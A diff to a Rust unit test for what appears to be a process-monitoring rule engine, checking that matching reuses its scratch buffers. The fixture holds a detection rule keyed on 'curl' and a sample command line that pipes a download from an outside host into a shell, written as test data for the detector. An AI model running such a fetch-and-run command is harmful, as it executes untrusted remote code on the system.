@@ -400,22 +400,42 @@ fn watched_reads_by_flags_and_watched_path() {
 #[test]
 fn matching_reuses_its_buffers() {
     // The command line is assembled into the scratch buffer; once it has
-    // grown, later matches do not allocate (capacity stays).
+    // grown, later matches write into the same allocation. Warmed by a
+    // longer command line first, so that a buffer allocated afresh (or
+    // shrunk) for the shorter one would show as a smaller capacity or a
+    // moved pointer; the same length alone would not show it.
     let s = set(
         "[\"exec\"]",
         "[[rules.all]]\nfield = \"process.command_line\"\ncontains = \"curl\"\n",
     );
     let ev = shell_exec();
+    let mut long = shell_exec();
+    long.process = Some(process(
+        31,
+        "/bin/sh",
+        &["sh", "-c", &"curl ".repeat(64)],
+        None,
+    ));
     let mut scratch = Scratch::default();
     let mut out = Vec::with_capacity(4);
-    s.matches(&ev, &mut scratch, &mut out);
-    let cap = scratch.command_line(&ev).unwrap().len();
+    s.matches(&long, &mut scratch, &mut out);
+    assert_eq!(out, [0]);
+    let cap = scratch.capacity();
+    assert!(cap >= "sh -c ".len() + 5 * 64, "{cap}");
+    let ptr = scratch.command_line(&long).unwrap().as_ptr();
+    let out_ptr = out.as_ptr();
     for _ in 0..100 {
         out.clear();
         s.matches(&ev, &mut scratch, &mut out);
         assert_eq!(out, [0]);
+        assert_eq!(scratch.capacity(), cap);
+        assert_eq!(scratch.command_line(&ev).unwrap().as_ptr(), ptr);
+        assert_eq!(out.as_ptr(), out_ptr);
     }
-    assert_eq!(scratch.command_line(&ev).unwrap().len(), cap);
+    assert_eq!(
+        scratch.command_line(&ev).unwrap(),
+        "sh -c curl http://203.0.113.5/x | sh"
+    );
 }
 
 fn error_of(text: &str) -> RuleError {
